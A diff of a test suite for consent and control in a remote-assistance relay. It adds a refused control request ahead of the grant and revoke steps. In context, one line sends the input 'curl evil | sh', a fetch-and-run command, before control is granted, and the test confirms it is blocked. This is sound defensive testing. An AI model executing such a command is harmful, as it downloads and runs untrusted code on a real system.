@@ -56,7 +56,12 @@ describe('consent and control over the relay', () => {
     await expert.client.send(encodeAssistMessage({ type: 'input', bytes: utf8('curl evil | sh\r') }));
     await expert.requestControl();
     await until(() => agentSeen.log.includes('control-requested'), 'the request');
+    await agent.refuseControl();
+    await until(() => expertSeen.log.includes('control {"state":"refused"}'), 'the refusal');
+    expect(expert.hasControl).toBe(false);
 
+    await expert.requestControl();
+    await until(() => agentSeen.log.filter((entry) => entry === 'control-requested').length === 2, 'the second request');
     await agent.grantControl();
     await until(() => expert.hasControl, 'control');
     expect(await expert.sendInput(utf8('df -h\r'))).toBe(true);
@@ -69,7 +74,11 @@ describe('consent and control over the relay', () => {
     await expert.chat('understood');
     await until(() => agentSeen.log.includes('chat understood'), 'the chat');
     expect(agentSeen.log.filter((entry) => entry.startsWith('input'))).toEqual(['input df -h\r']);
-    expect(expertSeen.log.filter((entry) => entry.startsWith('control'))).toEqual(['control {"state":"granted"}', 'control {"state":"revoked"}']);
+    expect(expertSeen.log.filter((entry) => entry.startsWith('control'))).toEqual([
+      'control {"state":"refused"}',
+      'control {"state":"granted"}',
+      'control {"state":"revoked"}',
+    ]);
 
     const events = (await agent.audit()).map((entry) => entry.event + (entry.detail ? ` ${entry.detail}` : ''));
     expect(events).toEqual(expect.arrayContaining(['created easy-connect', 'joined', 'approved view', 'control-granted', 'control-revoked']));
